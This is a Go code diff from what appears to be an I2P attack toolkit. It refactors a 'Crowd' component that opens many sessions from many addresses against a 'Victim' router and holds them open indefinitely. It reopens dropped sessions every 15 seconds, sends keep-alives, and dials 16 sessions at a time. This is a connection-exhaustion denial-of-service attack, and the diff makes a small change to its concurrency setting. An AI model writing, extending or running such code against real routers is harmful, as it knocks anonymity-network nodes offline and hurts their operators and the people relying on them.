@@ -9,21 +9,21 @@ import (
 	"time"
 
 	"i2ptoolkit/pkg/i2np"
-	"i2ptoolkit/pkg/i2p"
 	"i2ptoolkit/pkg/routerinfo"
 )
 
 // Crowd is sessions that are opened, and kept for good, from many addresses: as many as the
 // victim takes.
 type Crowd struct {
-	Victim   *routerinfo.RouterInfo
-	Dials    []dialFunc // one for each address, or each range
-	V6       bool       // they reach the victim's IPv6 address
-	Each     int        // sessions of one of them
-	Lookups  []i2p.Hash // what they ask for now and then, so as not to be idle
-	Together int        // dials at the same time; 0 is 16
+	Victim *routerinfo.RouterInfo
+	Dials  []dialFunc // one for each address, or each range
+	V6     bool       // they reach the victim's IPv6 address
+	Each   int        // sessions of one of them
 	counts
 }
+
+// crowdDials is how many of them are being opened at the same time.
+const crowdDials = 16
 
 // reopenAfter is the pause before a session that has ended is opened again.
 const reopenAfter = 15 * time.Second
@@ -33,10 +33,7 @@ const aliveEvery = 30 * time.Second
 
 // Run is Attack's.
 func (c *Crowd) Run(ctx context.Context) {
-	if c.Together == 0 {
-		c.Together = 16
-	}
-	slots := make(chan struct{}, c.Together)
+	slots := make(chan struct{}, crowdDials)
 	var wg sync.WaitGroup
 	for _, dial := range c.Dials {
 		for range c.Each {
